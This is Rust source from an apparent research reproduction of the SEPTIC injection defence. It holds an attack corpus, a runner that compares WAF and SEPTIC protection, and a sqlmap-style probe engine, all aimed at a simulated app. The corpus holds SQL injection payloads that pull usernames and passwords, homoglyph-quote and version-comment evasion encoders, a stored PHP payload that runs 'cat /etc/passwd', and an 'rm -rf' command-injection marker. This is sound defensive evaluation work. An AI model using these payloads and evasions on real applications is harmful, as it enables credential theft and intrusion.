            },
            succeeded: |d| notes_render_contains(d, "rm -rf"),
        },
        AttackSpec {
            id: "O2",
            name: "RCE PHP payload",
            class: AttackClass::Rce,
            description: "PHP eval shape stored for a template-including page",
            execute: |d| {
                vec![d.request(
                    &HttpRequest::post("/notes/add")
                        .param("device_id", "1")
                        .param("body", "<?php system('cat /etc/passwd'); ?>")
                        .param("author", "mallory"),
                )]
            },
            succeeded: |d| notes_render_contains(d, "system("),
        },
    ]
}

/// Corpus restricted to the semantic-mismatch SQLI classes — the attacks
/// the demo runs when "protections are in place".
#[must_use]
pub fn semantic_mismatch_corpus() -> Vec<AttackSpec> {
    corpus()
        .into_iter()
        .filter(|a| a.class.is_semantic_mismatch())
        .collect()
}

// ---- oracles ---------------------------------------------------------

fn last_login_granted(d: &Deployment, user: &str, pass: &str) -> bool {
    let r = d.request(
        &HttpRequest::post("/login")
            .param("user", user)
            .param("pass", pass),
    );
    r.response.is_success() && r.response.set_session.is_some()
}

fn notes_render_contains(d: &Deployment, marker: &str) -> bool {
    let r = d.request(&HttpRequest::get("/notes").param("device_id", "1"));
    r.response.body.contains(marker)
}

fn collectors_contain(d: &Deployment, marker: &str) -> bool {
    // Ground truth straight from storage (no protection layer involved).
    d.server().with_db(|db| {
        db.table("collectors").is_ok_and(|t| {
            t.scan()
                .any(|(_, row)| row.iter().any(|v| v.to_display_string().contains(marker)))
        })
    })
}

fn homoglyph_union_request(version_comments: bool) -> HttpRequest {
    let payload = if version_comments {
        "zz\u{02BC} /*!UNION*/ /*!SELECT*/ username, password FROM users-- ".to_string()
    } else {
        "zz\u{02BC} UNION SELECT username, password FROM users-- ".to_string()
    };
    HttpRequest::get("/history")
        .param("device", payload)
        .param("days", "0")
}

fn second_order(d: &Deployment, version_comments: bool) -> Vec<DeploymentResponse> {
    let marker = if version_comments {
        "SO-VC"
    } else {
        "SO-PLAIN"
    };
    let bomb = if version_comments {
        format!("{marker}\u{02BC} /*!UNION*/ /*!SELECT*/ username, password, 1 FROM users-- ")
    } else {
        format!("{marker}\u{02BC} UNION SELECT username, password, 1 FROM users-- ")
    };
    let store = d.request(
        &HttpRequest::post("/devices/add")
            .param("name", bomb)
            .param("location", "attic"),
    );
    // Find the stored bomb's device id (ground truth, straight from disk).
    let id = bomb_device_id(d, marker);
    let trigger =
        d.request(&HttpRequest::get("/export").param("device_id", id.unwrap_or(0).to_string()));
    vec![store, trigger]
}

fn bomb_device_id(d: &Deployment, marker: &str) -> Option<i64> {
    d.server().with_db(|db| {
        let t = db.table("devices").ok()?;
        for (_, row) in t.scan() {
            if let Value::Str(name) = &row[1] {
                if name.starts_with(marker) {
                    return row[0].to_int();
                }
            }
        }
        None
    })
}

fn second_order_leaked(d: &Deployment, marker: &str) -> bool {
    let Some(id) = bomb_device_id(d, marker) else {
        return false;
    };
    let r = d.request(&HttpRequest::get("/export").param("device_id", id.to_string()));
    r.response
        .body
        .contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
}

/// Builds the standard deployment target for the corpus (WaspMon).
#[must_use]
pub fn target_app() -> std::sync::Arc<dyn septic_webapp::WebApp> {
    std::sync::Arc::new(WaspMon::new())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_has_all_demo_classes() {
        let c = corpus();
        assert!(c.len() >= 15);
        for class in [
            AttackClass::ClassicSqli,
            AttackClass::NumericContext,
            AttackClass::HomoglyphFirstOrder,
            AttackClass::SyntaxMimicry,
            AttackClass::SecondOrder,
            AttackClass::Piggyback,
            AttackClass::StoredXss,
            AttackClass::Rfi,
            AttackClass::Lfi,
            AttackClass::Osci,
            AttackClass::Rce,
        ] {
            assert!(c.iter().any(|a| a.class == class), "missing {class}");
        }
    }

    #[test]
    fn ids_are_unique() {
        let c = corpus();
        let mut ids: Vec<&str> = c.iter().map(|a| a.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), c.len());
    }

    #[test]
    fn every_semantic_mismatch_attack_succeeds_against_bare_app() {
        // Phase IV-A ground truth: with sanitization only (no WAF, no
        // SEPTIC), every semantic-mismatch attack achieves its effect.
        for attack in corpus() {
            let d = Deployment::new(target_app(), None, None).expect("deploy");
            let _ = (attack.execute)(&d);
            let effect = (attack.succeeded)(&d);
            if attack.class == AttackClass::ClassicSqli {
                assert!(
                    !effect,
                    "{}: sanitization must stop classic SQLI",
                    attack.id
                );
            } else {
                assert!(effect, "{}: must succeed against the bare app", attack.id);
            }
        }
    }
}
