//! The **septic training module**: a crawler that "works like a crawler,
//! navigating in the application looking for forms, to then inject benign
//! inputs that eventually are inserted in queries transmitted to MySQL"
//! (Section II-E).

use septic::{Mode, Septic};
use septic_http::HttpRequest;
use septic_webapp::deployment::Deployment;

/// Report of one training run.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TrainReport {
    /// HTTP requests sent by the crawler.
    pub requests_sent: usize,
    /// Query models SEPTIC learned during the crawl.
    pub models_learned: usize,
    /// Responses that were not 2xx/3xx (should be zero on a healthy app).
    pub failures: usize,
}

/// Crawls every route of the deployed application with benign inputs,
/// repeating each form `repeats` times (repeats demonstrate that a model
/// is created only once per query shape).
///
/// The deployment's SEPTIC instance (when present) should already be in
/// [`Mode::Training`]; use [`train`] for the full orchestration.
#[must_use]
pub fn crawl(deployment: &Deployment, repeats: usize) -> TrainReport {
    let mut report = TrainReport::default();
    let routes = deployment.app().routes();
    for _ in 0..repeats.max(1) {
        for route in &routes {
            let req: HttpRequest = route.benign_request();
            let resp = deployment.request(&req);
            report.requests_sent += 1;
            if !resp.response.is_success() {
                report.failures += 1;
            }
        }
        // Replay the recorded workload too — it exercises query variants
        // (different literals) that must map onto the same models.
        for req in deployment.app().workload() {
            let resp = deployment.request(&req);
            report.requests_sent += 1;
            if !resp.response.is_success() {
                report.failures += 1;
            }
        }
    }
    report
}

/// Full training orchestration: switch SEPTIC to training mode, crawl,
/// then switch to the requested operation mode.
#[must_use]
pub fn train(deployment: &Deployment, septic: &Septic, final_mode: Mode) -> TrainReport {
    septic.set_mode(Mode::Training);
    let before = septic.counters().models_created;
    let mut report = crawl(deployment, 2);
    report.models_learned = (septic.counters().models_created - before) as usize;
    septic.set_mode(final_mode);
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    use septic_webapp::WaspMon;

    #[test]
    fn training_learns_each_shape_once() {
        let septic = Arc::new(Septic::new());
        let d =
            Deployment::new(Arc::new(WaspMon::new()), None, Some(septic.clone())).expect("deploy");
        let report = train(&d, &septic, Mode::PREVENTION);
        assert_eq!(report.failures, 0, "benign crawl must not fail");
        assert!(
            report.models_learned > 5,
            "learned {}",
            report.models_learned
        );
        // Crawling twice more must not create new models.
        septic.set_mode(Mode::Training);
        let before = septic.counters().models_created;
        let _ = crawl(&d, 2);
        assert_eq!(
            septic.counters().models_created,
            before,
            "no new models on repeat"
        );
    }

    #[test]
    fn trained_app_serves_benign_traffic_without_false_positives() {
        let septic = Arc::new(Septic::new());
        let d =
            Deployment::new(Arc::new(WaspMon::new()), None, Some(septic.clone())).expect("deploy");
        let _ = train(&d, &septic, Mode::PREVENTION);
        // Fresh benign traffic with different literals flows untouched.
        let report = crawl(&d, 1);
        assert_eq!(report.failures, 0, "no false positives");
        assert_eq!(septic.counters().sqli_detected, 0);
        assert_eq!(septic.counters().stored_detected, 0);
    }
}
