//! The attack runner: executes the corpus against a protection
//! configuration and produces the detection matrix the demo phases report.

use std::fmt;
use std::sync::Arc;

use septic::{DetectionConfig, Mode, Septic};
use septic_waf::ModSecurity;
use septic_webapp::deployment::Deployment;

use crate::corpus::{target_app, AttackSpec};
use crate::trainer;

/// A protection stack configuration.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ProtectionConfig {
    /// Deploy ModSecurity in front of the application.
    pub waf: bool,
    /// Deploy SEPTIC in the DBMS in this mode (`None` = vanilla MySQL).
    pub septic: Option<Mode>,
    /// Detector switches when SEPTIC is deployed.
    pub detection: DetectionConfig,
    /// Ablation: restrict the SQLI detector to its structural step.
    pub structural_only: bool,
}

impl ProtectionConfig {
    /// Sanitization only (phase IV-A).
    pub const SANITIZATION_ONLY: ProtectionConfig = ProtectionConfig {
        waf: false,
        septic: None,
        detection: DetectionConfig::YY,
        structural_only: false,
    };
    /// Sanitization + ModSecurity (phase IV-B).
    pub const WITH_WAF: ProtectionConfig = ProtectionConfig {
        waf: true,
        septic: None,
        detection: DetectionConfig::YY,
        structural_only: false,
    };
    /// Sanitization + SEPTIC in prevention mode (phase IV-D).
    pub const WITH_SEPTIC: ProtectionConfig = ProtectionConfig {
        waf: false,
        septic: Some(Mode::PREVENTION),
        detection: DetectionConfig::YY,
        structural_only: false,
    };
    /// Everything on (phase IV-E's combined view).
    pub const WAF_AND_SEPTIC: ProtectionConfig = ProtectionConfig {
        waf: true,
        septic: Some(Mode::PREVENTION),
        detection: DetectionConfig::YY,
        structural_only: false,
    };
    /// Detector ablation: SEPTIC prevention with step 1 only.
    pub const SEPTIC_STRUCTURAL_ONLY: ProtectionConfig = ProtectionConfig {
        waf: false,
        septic: Some(Mode::PREVENTION),
        detection: DetectionConfig::YY,
        structural_only: true,
    };

    /// Short label for report tables.
    #[must_use]
    pub fn label(&self) -> String {
        let ablation = if self.structural_only {
            "-step1only"
        } else {
            ""
        };
        match (self.waf, self.septic) {
            (false, None) => "sanitization".to_string(),
            (true, None) => "modsecurity".to_string(),
            (false, Some(m)) => format!("septic-{m}{ablation}"),
            (true, Some(m)) => format!("modsec+septic-{m}{ablation}"),
        }
    }
}

/// Outcome of one attack against one configuration.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// ModSecurity blocked a request of the attack chain.
    BlockedByWaf,
    /// SEPTIC dropped the malicious query (prevention mode).
    BlockedBySeptic,
    /// The attack achieved its effect but SEPTIC flagged it (detection
    /// mode).
    SucceededButDetected,
    /// The attack achieved its malicious effect unnoticed.
    Succeeded,
    /// No protection fired, but the attack had no effect (the application's
    /// own sanitization neutralised it).
    Thwarted,
}

impl Outcome {
    /// True when the application was protected (the effect did not occur).
    #[must_use]
    pub fn protected(&self) -> bool {
        matches!(
            self,
            Outcome::BlockedByWaf | Outcome::BlockedBySeptic | Outcome::Thwarted
        )
    }
}

impl fmt::Display for Outcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Outcome::BlockedByWaf => "blocked (WAF)",
            Outcome::BlockedBySeptic => "blocked (SEPTIC)",
            Outcome::SucceededButDetected => "succeeded (detected)",
            Outcome::Succeeded => "SUCCEEDED",
            Outcome::Thwarted => "thwarted (sanitization)",
        };
        f.write_str(s)
    }
}

/// One row of the detection matrix.
#[derive(Debug, Clone)]
pub struct AttackResult {
    pub attack_id: &'static str,
    pub attack_name: &'static str,
    pub class: crate::taxonomy::AttackClass,
    pub outcome: Outcome,
}

/// Runs a single attack against a fresh deployment with the given
/// protection configuration. Each attack gets its own deployment so state
/// never leaks between attacks.
#[must_use]
pub fn run_attack(attack: &AttackSpec, config: ProtectionConfig) -> AttackResult {
    let waf = config.waf.then(|| Arc::new(ModSecurity::new()));
    let septic = config.septic.map(|_| {
        let s = Septic::with_config(config.detection);
        s.set_structural_only(config.structural_only);
        Arc::new(s)
    });
    let deployment =
        Deployment::new(target_app(), waf, septic.clone()).expect("deployment install");
    if let (Some(septic), Some(mode)) = (&septic, config.septic) {
        let report = trainer::train(&deployment, septic, mode);
        debug_assert_eq!(report.failures, 0, "training must be clean");
    }
    let dropped_before = septic.as_ref().map_or(0, |s| s.counters().queries_dropped);

    let responses = (attack.execute)(&deployment);
    let waf_blocked = responses
        .iter()
        .any(septic_webapp::DeploymentResponse::waf_blocked);
    let dropped_during =
        septic.as_ref().map_or(0, |s| s.counters().queries_dropped) - dropped_before;
    let flagged = septic
        .as_ref()
        .is_some_and(|s| s.counters().sqli_detected + s.counters().stored_detected > 0);

    let effect = (attack.succeeded)(&deployment);
    let outcome = if effect {
        if flagged {
            Outcome::SucceededButDetected
        } else {
            Outcome::Succeeded
        }
    } else if waf_blocked {
        Outcome::BlockedByWaf
    } else if dropped_during > 0
        || septic.as_ref().map_or(0, |s| s.counters().queries_dropped) > dropped_before
    {
        Outcome::BlockedBySeptic
    } else {
        Outcome::Thwarted
    };
    AttackResult {
        attack_id: attack.id,
        attack_name: attack.name,
        class: attack.class,
        outcome,
    }
}

/// Runs a whole corpus against a configuration.
#[must_use]
pub fn run_corpus(attacks: &[AttackSpec], config: ProtectionConfig) -> Vec<AttackResult> {
    attacks.iter().map(|a| run_attack(a, config)).collect()
}

/// Summary counts over a result set.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Summary {
    pub total: usize,
    pub succeeded: usize,
    pub blocked_waf: usize,
    pub blocked_septic: usize,
    pub thwarted: usize,
    pub detected_only: usize,
}

/// Aggregates results.
#[must_use]
pub fn summarize(results: &[AttackResult]) -> Summary {
    let mut s = Summary {
        total: results.len(),
        ..Summary::default()
    };
    for r in results {
        match r.outcome {
            Outcome::Succeeded => s.succeeded += 1,
            Outcome::BlockedByWaf => s.blocked_waf += 1,
            Outcome::BlockedBySeptic => s.blocked_septic += 1,
            Outcome::Thwarted => s.thwarted += 1,
            Outcome::SucceededButDetected => s.detected_only += 1,
        }
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus::corpus;
    use crate::taxonomy::AttackClass;

    #[test]
    fn phase_a_sanitization_only() {
        let results = run_corpus(&corpus(), ProtectionConfig::SANITIZATION_ONLY);
        for r in &results {
            if r.class == AttackClass::ClassicSqli {
                assert_eq!(r.outcome, Outcome::Thwarted, "{}", r.attack_id);
            } else {
                assert_eq!(r.outcome, Outcome::Succeeded, "{}", r.attack_id);
            }
        }
    }

    #[test]
    fn phase_b_waf_blocks_some_not_all() {
        let results = run_corpus(&corpus(), ProtectionConfig::WITH_WAF);
        let s = summarize(&results);
        assert!(s.blocked_waf >= 4, "WAF should block classic shapes: {s:?}");
        assert!(
            s.succeeded >= 4,
            "semantic-mismatch attacks must pass the WAF: {s:?}"
        );
        // The WAF's false negatives are exactly semantic-mismatch or
        // evasive stored-injection attacks.
        for r in &results {
            if r.outcome == Outcome::Succeeded {
                assert!(
                    r.class.is_semantic_mismatch()
                        || matches!(
                            r.class,
                            AttackClass::StoredXss | AttackClass::Rfi | AttackClass::Osci
                        ),
                    "unexpected WAF miss: {} ({})",
                    r.attack_id,
                    r.class
                );
            }
        }
    }

    #[test]
    fn phase_d_septic_blocks_everything() {
        let results = run_corpus(&corpus(), ProtectionConfig::WITH_SEPTIC);
        for r in &results {
            assert!(
                r.outcome.protected(),
                "{} ({}) got through SEPTIC: {:?}",
                r.attack_id,
                r.class,
                r.outcome
            );
        }
        // …and specifically, everything that is not thwarted by the app's
        // own sanitization is blocked by SEPTIC, not silently dead.
        let s = summarize(&results);
        assert_eq!(s.succeeded, 0);
        assert!(s.blocked_septic >= 10, "{s:?}");
    }

    #[test]
    fn structural_only_misses_mimicry_but_two_step_catches_everything() {
        let ablated = run_corpus(&corpus(), ProtectionConfig::SEPTIC_STRUCTURAL_ONLY);
        let full = run_corpus(&corpus(), ProtectionConfig::WITH_SEPTIC);
        // Every deliberate mimicry attack evades step 1 — that is the
        // attack class step 2 exists for.
        for r in &ablated {
            if r.class == AttackClass::SyntaxMimicry {
                assert_eq!(
                    r.outcome,
                    Outcome::Succeeded,
                    "{}: mimicry must evade the structural-only detector",
                    r.attack_id
                );
            }
        }
        // Step 1 alone also loses attacks that merely *happen* to preserve
        // arity (S3's UNION lands on the same node count as the learned
        // query) — all of them SQLI, none of them stored-injection.
        let missed: Vec<_> = ablated.iter().filter(|r| !r.outcome.protected()).collect();
        assert!(
            missed.len() >= 2,
            "expected mimicry (and friends) to slip: {missed:?}"
        );
        for r in &missed {
            assert!(
                r.class.is_sqli(),
                "{}: only SQLI outcomes depend on the detector",
                r.attack_id
            );
        }
        // The full two-step detector catches every one of them.
        for r in &full {
            assert!(
                r.outcome.protected(),
                "{}: two-step must protect",
                r.attack_id
            );
        }
    }

    #[test]
    fn detection_mode_observes_without_blocking() {
        let config = ProtectionConfig {
            waf: false,
            septic: Some(Mode::DETECTION),
            detection: DetectionConfig::YY,
            structural_only: false,
        };
        let results = run_corpus(&corpus(), config);
        let s = summarize(&results);
        assert_eq!(s.blocked_septic, 0, "detection mode never drops: {s:?}");
        assert!(s.detected_only >= 8, "attacks should be flagged: {s:?}");
    }
}
