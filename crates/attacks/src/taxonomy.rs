//! Attack taxonomy, following the SEPTIC papers' classification.

use std::fmt;

use serde::{Deserialize, Serialize};

/// Classes of injection attacks the demonstration exercises.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum AttackClass {
    /// Textbook quote-based SQLI (stopped by correct sanitization — shown
    /// for contrast; the demo focuses on the classes below).
    ClassicSqli,
    /// Injection into an unquoted numeric position: escaping without
    /// quoting protects nothing.
    NumericContext,
    /// First-order injection through a Unicode homoglyph quote the
    /// application-side escaping does not recognise.
    HomoglyphFirstOrder,
    /// Syntax mimicry: the injected query reproduces the learned structure
    /// arity (caught only by the detector's second step).
    SyntaxMimicry,
    /// Second-order: payload stored through a safe path, detonating later
    /// when re-embedded into query text.
    SecondOrder,
    /// Stacked/piggybacked statements.
    Piggyback,
    /// UNION arm smuggled *inside* a subquery (IN/EXISTS/scalar), so the
    /// exfiltration hides behind the outer statement's unchanged shape.
    SubqueryUnion,
    /// Aggregate-alias mimicry: a GROUP BY/HAVING position is fed an alias
    /// or aggregate reference with the same arity as the learned literal
    /// (caught only by node-wise comparison, not the structural count).
    AggregateMimicry,
    /// Piggybacked statement injected through a JOIN-bearing query, riding
    /// on the multi-table shape.
    JoinPiggyback,
    /// Stored cross-site scripting.
    StoredXss,
    /// Remote file inclusion payload stored in the database.
    Rfi,
    /// Local file inclusion / path traversal payload.
    Lfi,
    /// OS command injection payload.
    Osci,
    /// Code-execution payload (PHP).
    Rce,
}

impl AttackClass {
    /// True for the SQLI classes (vs the stored-injection classes).
    #[must_use]
    pub fn is_sqli(self) -> bool {
        matches!(
            self,
            AttackClass::ClassicSqli
                | AttackClass::NumericContext
                | AttackClass::HomoglyphFirstOrder
                | AttackClass::SyntaxMimicry
                | AttackClass::SecondOrder
                | AttackClass::Piggyback
                | AttackClass::SubqueryUnion
                | AttackClass::AggregateMimicry
                | AttackClass::JoinPiggyback
        )
    }

    /// True for the classes that exploit the semantic mismatch (the demo's
    /// focus: "we consider only these cases of injection attacks — when
    /// protections are in place").
    #[must_use]
    pub fn is_semantic_mismatch(self) -> bool {
        matches!(
            self,
            AttackClass::NumericContext
                | AttackClass::HomoglyphFirstOrder
                | AttackClass::SyntaxMimicry
                | AttackClass::SecondOrder
                | AttackClass::SubqueryUnion
                | AttackClass::AggregateMimicry
        )
    }

    /// All classes.
    #[must_use]
    pub fn all() -> &'static [AttackClass] {
        &[
            AttackClass::ClassicSqli,
            AttackClass::NumericContext,
            AttackClass::HomoglyphFirstOrder,
            AttackClass::SyntaxMimicry,
            AttackClass::SecondOrder,
            AttackClass::Piggyback,
            AttackClass::SubqueryUnion,
            AttackClass::AggregateMimicry,
            AttackClass::JoinPiggyback,
            AttackClass::StoredXss,
            AttackClass::Rfi,
            AttackClass::Lfi,
            AttackClass::Osci,
            AttackClass::Rce,
        ]
    }
}

impl fmt::Display for AttackClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            AttackClass::ClassicSqli => "classic SQLI",
            AttackClass::NumericContext => "numeric-context SQLI",
            AttackClass::HomoglyphFirstOrder => "homoglyph first-order SQLI",
            AttackClass::SyntaxMimicry => "syntax mimicry SQLI",
            AttackClass::SecondOrder => "second-order SQLI",
            AttackClass::Piggyback => "piggyback SQLI",
            AttackClass::SubqueryUnion => "subquery-union SQLI",
            AttackClass::AggregateMimicry => "aggregate-mimicry SQLI",
            AttackClass::JoinPiggyback => "join-piggyback SQLI",
            AttackClass::StoredXss => "stored XSS",
            AttackClass::Rfi => "RFI",
            AttackClass::Lfi => "LFI",
            AttackClass::Osci => "OSCI",
            AttackClass::Rce => "RCE",
        };
        f.write_str(name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classification() {
        assert!(AttackClass::SecondOrder.is_sqli());
        assert!(AttackClass::SecondOrder.is_semantic_mismatch());
        assert!(AttackClass::ClassicSqli.is_sqli());
        assert!(!AttackClass::ClassicSqli.is_semantic_mismatch());
        assert!(!AttackClass::StoredXss.is_sqli());
        assert_eq!(AttackClass::all().len(), 14);
        assert!(AttackClass::SubqueryUnion.is_sqli());
        assert!(AttackClass::SubqueryUnion.is_semantic_mismatch());
        assert!(AttackClass::AggregateMimicry.is_semantic_mismatch());
        assert!(AttackClass::JoinPiggyback.is_sqli());
        assert!(!AttackClass::JoinPiggyback.is_semantic_mismatch());
    }

    #[test]
    fn display_names() {
        assert_eq!(
            AttackClass::HomoglyphFirstOrder.to_string(),
            "homoglyph first-order SQLI"
        );
        assert_eq!(AttackClass::Osci.to_string(), "OSCI");
    }
}
