//! # septic-attacks
//!
//! The offensive half of the reproduction: the attack taxonomy
//! ([`taxonomy`]), the executable attack corpus against WaspMon with
//! ground-truth oracles ([`mod@corpus`]), a sqlmap-style probing engine with
//! evasion encoders ([`sqlmap`]), the benign-input trainer/crawler
//! ([`trainer`]) and the detection-matrix runner ([`runner`]) that drives
//! the demo phases IV-A through IV-E.

pub mod corpus;
pub mod crawler;
pub mod runner;
pub mod sqlmap;
pub mod taxonomy;
pub mod trainer;

pub use corpus::{corpus, semantic_mismatch_corpus, AttackSpec};
pub use crawler::{crawl_html, CrawlReport, DiscoveredForm};
pub use runner::{
    run_attack, run_corpus, summarize, AttackResult, Outcome, ProtectionConfig, Summary,
};
pub use taxonomy::AttackClass;
pub use trainer::{crawl, train, TrainReport};
