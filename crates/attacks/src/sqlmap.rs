//! A sqlmap-style probing engine (the demo uses sqlmap as the attacker's
//! tool). Generates the classic probe families — boolean-blind pairs,
//! UNION column sweeps, error-based and stacked probes — with the evasion
//! encoders ("tamper scripts") relevant to the demo, and drives them
//! against a deployed application to decide whether a parameter is
//! injectable.

use septic_http::HttpRequest;
use septic_webapp::deployment::Deployment;

/// Injection techniques probed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Technique {
    BooleanBlind,
    UnionBased,
    ErrorBased,
    Stacked,
    TimeBased,
}

impl std::fmt::Display for Technique {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            Technique::BooleanBlind => "boolean-blind",
            Technique::UnionBased => "UNION-based",
            Technique::ErrorBased => "error-based",
            Technique::Stacked => "stacked",
            Technique::TimeBased => "time-based",
        };
        f.write_str(s)
    }
}

/// Payload encoders (sqlmap tamper-script analogues).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Encoder {
    /// No transformation.
    Plain,
    /// ASCII quotes replaced by `U+02BC` (the semantic-mismatch tamper).
    HomoglyphQuote,
    /// SQL keywords wrapped in executable version comments.
    VersionComment,
    /// Random-looking (deterministic) case mixing.
    CaseMix,
}

/// Applies an encoder to a payload.
#[must_use]
pub fn encode(payload: &str, encoder: Encoder) -> String {
    match encoder {
        Encoder::Plain => payload.to_string(),
        Encoder::HomoglyphQuote => payload.replace('\'', "\u{02BC}"),
        Encoder::VersionComment => {
            let mut out = payload.to_string();
            for kw in ["UNION", "SELECT", "FROM", "WHERE", "AND", "OR"] {
                out = out.replace(&format!(" {kw} "), &format!(" /*!{kw}*/ "));
            }
            out
        }
        Encoder::CaseMix => payload
            .chars()
            .enumerate()
            .map(|(i, c)| {
                if i % 2 == 0 {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect(),
    }
}

/// A generated probe.
#[derive(Debug, Clone)]
pub struct Probe {
    pub technique: Technique,
    pub encoder: Encoder,
    /// The parameter value to send.
    pub value: String,
    /// For boolean pairs: the FALSE branch value (responses must differ).
    pub false_value: Option<String>,
    /// For union/error probes: marker expected in the response body.
    pub marker: Option<String>,
}

/// Generates probes for a *numeric-context* parameter (sent as
/// `<benign><payload>`). Deterministic: same list every call.
#[must_use]
pub fn numeric_probes(encoders: &[Encoder]) -> Vec<Probe> {
    let mut probes = Vec::new();
    for &encoder in encoders {
        probes.push(Probe {
            technique: Technique::BooleanBlind,
            encoder,
            value: encode("0 OR 7=7", encoder),
            false_value: Some(encode("0 AND 7=8", encoder)),
            marker: None,
        });
        for cols in 1..=4usize {
            // Numeric context: the application's escaping would mangle a
            // quoted marker, so the marker is a distinctive number — the
            // same trick sqlmap's casting tampers use.
            let marker = format!("73376{cols}1");
            let mut fields = vec![marker.clone()];
            fields.extend((1..cols).map(|i| i.to_string()));
            probes.push(Probe {
                technique: Technique::UnionBased,
                encoder,
                value: encode(
                    &format!("0 UNION SELECT {} FROM users-- ", fields.join(", ")),
                    encoder,
                ),
                false_value: None,
                marker: Some(marker),
            });
        }
        probes.push(Probe {
            technique: Technique::Stacked,
            encoder,
            value: encode("0; SELECT 1-- ", encoder),
            false_value: None,
            marker: None,
        });
        probes.push(Probe {
            technique: Technique::TimeBased,
            encoder,
            value: encode("0 OR SLEEP(3)", encoder),
            false_value: None,
            marker: None,
        });
    }
    probes
}

/// Generates probes for a *quoted string* parameter.
#[must_use]
pub fn string_probes(encoders: &[Encoder]) -> Vec<Probe> {
    let mut probes = Vec::new();
    for &encoder in encoders {
        probes.push(Probe {
            technique: Technique::ErrorBased,
            encoder,
            value: encode("x'", encoder),
            false_value: None,
            marker: Some("Query failed".to_string()),
        });
        probes.push(Probe {
            technique: Technique::BooleanBlind,
            encoder,
            value: encode("x' OR 'a'='a", encoder),
            false_value: Some(encode("x' AND 'a'='b", encoder)),
            marker: None,
        });
        for cols in 1..=4usize {
            let marker = format!("sqm{cols}s");
            let mut fields = vec![format!("'{marker}'")];
            fields.extend((1..cols).map(|i| i.to_string()));
            probes.push(Probe {
                technique: Technique::UnionBased,
                encoder,
                value: encode(
                    &format!("zz' UNION SELECT {} FROM users-- ", fields.join(", ")),
                    encoder,
                ),
                false_value: None,
                marker: Some(marker),
            });
        }
    }
    probes
}

/// Scan verdict for one parameter.
#[derive(Debug, Clone, Default)]
pub struct ScanReport {
    pub probes_sent: usize,
    /// Techniques (with their encoder) that demonstrated injectability.
    pub findings: Vec<(Technique, Encoder)>,
    /// Probes answered with HTTP 403 (WAF) or a blocked-query error.
    pub blocked: usize,
}

impl ScanReport {
    /// True when any technique worked.
    #[must_use]
    pub fn vulnerable(&self) -> bool {
        !self.findings.is_empty()
    }
}

/// Drives a probe set against one parameter of a base request.
#[must_use]
pub fn scan_param(
    deployment: &Deployment,
    base: &HttpRequest,
    param: &str,
    probes: &[Probe],
) -> ScanReport {
    let mut report = ScanReport::default();
    let baseline = deployment.request(base);
    for probe in probes {
        let mut req = base.clone();
        req.set_param(param, probe.value.clone());
        let delay_before = deployment.server().simulated_delay_total();
        let resp = deployment.request(&req);
        report.probes_sent += 1;
        if resp.waf_blocked() || resp.response.body.contains("query blocked") {
            report.blocked += 1;
            continue;
        }
        let hit = match probe.technique {
            Technique::TimeBased => {
                // Deterministic blind-timing oracle: the server accounts
                // requested SLEEP/BENCHMARK time instead of stalling;
                // sqlmap's wall-clock threshold maps to a delta check.
                deployment.server().simulated_delay_total() - delay_before
                    >= std::time::Duration::from_secs(2)
            }
            Technique::BooleanBlind => {
                let Some(false_value) = &probe.false_value else {
                    continue;
                };
                let mut false_req = base.clone();
                false_req.set_param(param, false_value.clone());
                let false_resp = deployment.request(&false_req);
                report.probes_sent += 1;
                // TRUE branch yields strictly more content than both the
                // FALSE branch and the baseline.
                resp.response.body.len() > false_resp.response.body.len()
                    && resp.response.body.len() > baseline.response.body.len()
            }
            Technique::UnionBased | Technique::ErrorBased => probe
                .marker
                .as_ref()
                .is_some_and(|m| resp.response.body.contains(m)),
            Technique::Stacked => {
                resp.response.is_success() && !resp.response.body.contains("Query failed")
            }
        };
        if hit && !report.findings.contains(&(probe.technique, probe.encoder)) {
            report.findings.push((probe.technique, probe.encoder));
        }
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use septic_webapp::WaspMon;
    use std::sync::Arc;

    fn deploy() -> Deployment {
        Deployment::new(Arc::new(WaspMon::new()), None, None).expect("deploy")
    }

    #[test]
    fn encoders_transform_deterministically() {
        assert_eq!(encode("a'b", Encoder::HomoglyphQuote), "a\u{02BC}b");
        assert_eq!(
            encode("x UNION SELECT 1", Encoder::VersionComment),
            "x /*!UNION*/ /*!SELECT*/ 1"
        );
        assert_eq!(encode("union", Encoder::CaseMix), "UnIoN");
        assert_eq!(encode("same", Encoder::Plain), "same");
    }

    #[test]
    fn numeric_param_is_found_vulnerable() {
        let d = deploy();
        let base = HttpRequest::get("/history")
            .param("device", "Kitchen Meter")
            .param("days", "0");
        let probes = numeric_probes(&[Encoder::Plain]);
        let report = scan_param(&d, &base, "days", &probes);
        assert!(report.vulnerable(), "{report:?}");
        assert!(report
            .findings
            .iter()
            .any(|(t, _)| *t == Technique::BooleanBlind));
        assert!(report
            .findings
            .iter()
            .any(|(t, _)| *t == Technique::UnionBased));
        assert!(
            report
                .findings
                .iter()
                .any(|(t, _)| *t == Technique::TimeBased),
            "the SLEEP probe must register through the delay oracle: {report:?}"
        );
    }

    #[test]
    fn quoted_param_resists_plain_but_falls_to_homoglyph() {
        let d = deploy();
        let base = HttpRequest::get("/history")
            .param("device", "Kitchen Meter")
            .param("days", "0");
        let plain = scan_param(&d, &base, "device", &string_probes(&[Encoder::Plain]));
        assert!(
